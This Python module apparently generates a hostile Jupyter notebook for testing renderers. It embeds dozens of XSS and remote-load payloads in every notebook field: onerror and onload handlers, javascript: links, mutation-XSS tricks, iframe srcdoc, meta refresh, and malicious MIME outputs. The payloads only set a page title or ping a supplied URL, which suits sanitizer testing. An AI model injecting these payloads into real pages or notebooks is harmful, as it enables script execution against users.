"""A notebook that tries, in every place where a notebook can hold something, to run or to load."""

from __future__ import annotations

import base64
import json
from typing import TYPE_CHECKING, Any, Final

if TYPE_CHECKING:
    from collections.abc import Iterator

PNG: Final = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
        "0000000d49444154789c6364f8cf500f0003860180"
        "5a347d6b0000000049454e44ae426082"
    )
).decode()
RUN: Final = "document.title='RUN';top.document.title='RUN'"


def probes(elsewhere: str) -> tuple[str, ...]:
    """HTML that runs a script, or asks another server for something.

    Args:
        elsewhere: URL of that server, with a slash at its end.
    """
    svg = base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"/>".encode())
    return (
        f"<script>{RUN}</script>",
        f"<script src='{elsewhere}s.js'></script>",
        f'<img src=x onerror="{RUN}">',
        f"<img src='{elsewhere}i.png'>",
        f"<img srcset='{elsewhere}set.png 1x' src='data:image/png;base64,{PNG}'>",
        f"<img src='data:image/svg+xml;base64,{svg.decode()}'>",
        f'<svg onload="{RUN}"><script>{RUN}</script><image href="{elsewhere}svg.png"/></svg>',
        f'<a href="javascript:{RUN}" id="click">click</a>',
        f"<a href='{elsewhere}link' ping='{elsewhere}ping'>link</a>",
        f"<iframe src='{elsewhere}frame'></iframe>",
        f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
        f"<form action='{elsewhere}form'><input autofocus onfocus=\"{RUN}\"><button>b</form>",
        f"<meta http-equiv='refresh' content='0;url={elsewhere}meta'>",
        f"<base href='{elsewhere}'>",
        f"<link rel='stylesheet' href='{elsewhere}l.css'><link rel='prefetch' href='{elsewhere}p'>",
        f"<style>@import url('{elsewhere}c.css');</style>",
        f"<style>body {{ background: url('{elsewhere}b.png') }}</style>",
        f"<div style=\"background:url('{elsewhere}d.png');position:fixed;inset:0\">x</div>",
        f"<video poster='{elsewhere}v.png' src='{elsewhere}v.mp4' autoplay></video>",
        f"<audio src='{elsewhere}a.mp3' autoplay></audio>",
        f"<object data='{elsewhere}o'></object><embed src='{elsewhere}e'>",
        f'<details open ontoggle="{RUN}">x</details>',
        f'<math><mtext><style><img src=x onerror="{RUN}"></style></mtext></math>',
        f'<math href="javascript:{RUN}"><mi>x</mi></math>',
        f'<math><annotation-xml encoding="text/html"><script>{RUN}</script></math>',
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
        f'<textarea></textarea><img src=x onerror="{RUN}"></textarea>',
        f"</div></section></main></body></html><script>{RUN}</script>",
        f'<template><script>{RUN}</script></template><portal src="{elsewhere}"></portal>',
        f"<table background='{elsewhere}t.png'><tr><td background='{elsewhere}td.png'>x</table>",
        f'<!--><img src=x onerror="{RUN}">-->',
    )


def markdowns(elsewhere: str) -> Iterator[str]:
    """Markdown that does the same."""
    yield from probes(elsewhere)
    yield f"![beacon]({elsewhere}md.png)"
    yield f"![beacon][r]\n\n[r]: {elsewhere}ref.png"
    yield f"[click](javascript:{RUN})"
    yield f"[go]({elsewhere}go)"
    yield f"<{elsewhere}auto>"
    yield f"$\\text{{<script>{RUN}</script>}}$"
    yield f"$$\\href{{javascript:{RUN}}}{{x}}$$"
    yield f'```html"><img src=x onerror="{RUN}">\ncode\n```'
    yield f"```mermaid\n</pre><script>{RUN}</script>\n```"
    yield "![a](attachment:missing.png) ![b](attachment:evil.svg)"


def hostile_notebook(elsewhere: str) -> bytes:
    """All of it in one notebook: Markdown, outputs of every type, metadata, attachments, names."""
    html = list(probes(elsewhere))
    cells: list[dict[str, Any]] = [
        {
            "cell_type": "markdown",
            "id": f"<script>{RUN}</script>",
            "metadata": {"tags": [f'"><script>{RUN}</script>']},
            "source": source,
            "attachments": {"evil.svg": {"image/svg+xml": f"<svg onload='{RUN}'/>"}},
        }
        for source in markdowns(elsewhere)
    ]
    cells += [{"cell_type": "raw", "metadata": {}, "source": source} for source in html]
    cells.append(
        {
            "cell_type": "code",
            "execution_count": f"<script>{RUN}</script>",
            "metadata": {},
            "source": f"</pre><script>{RUN}</script>",
            "outputs": [
                *(
                    {"output_type": "display_data", "data": {"text/html": one}, "metadata": {}}
                    for one in html
                ),
                *(
                    {"output_type": "display_data", "data": {"text/markdown": one}}
                    for one in markdowns(elsewhere)
                ),
                *({"output_type": "stream", "name": "stdout", "text": one} for one in html),
                *(
                    {"output_type": "execute_result", "data": {"text/plain": one}}
                    for one in html[:5]
                ),
            ],
        }
    )
    cells.append(
        {
            "cell_type": "code",
            "execution_count": 1,
            "metadata": {},
            "source": "x",
            "outputs": [
                {"output_type": "display_data", "data": {mime: content}}
                for mime, content in (
                    ("image/svg+xml", f"<svg onload='{RUN}'><script>{RUN}</script></svg>"),
                    ("application/javascript", RUN),
                    ("text/javascript", RUN),
                    ("application/vnd.jupyter.widget-view+json", {"model_id": RUN}),
                    ("application/vnd.plotly.v1+json", {"data": [{"text": RUN}]}),
                    ("image/png", f'x" onerror="{RUN}'),
                    ("image/png", base64.b64encode(b"<svg onload=alert(1)>").decode()),
                    ("text/latex", f"$\\text{{<img src=x onerror={RUN}>}}$"),
                    (f"text/<script>{RUN}</script>", "x"),
                )
            ]
            + [
                {
                    "output_type": "error",
                    "ename": f"<script>{RUN}</script>",
                    "evalue": "",
                    "traceback": [
                        f"\x1b[31m<img src=x onerror={RUN}>\x1b[0m",
                        f"\x1b]8;;{elsewhere}\x07x",
                    ],
                },
            ],
        }
    )
    notebook = {
        "cells": cells,
        "metadata": {
            "language_info": {"name": f"<script>{RUN}</script>", "pygments_lexer": "x'><script>"},
            "title": f"</title><script>{RUN}</script>",
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": RUN}}},
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    return json.dumps(notebook).encode()
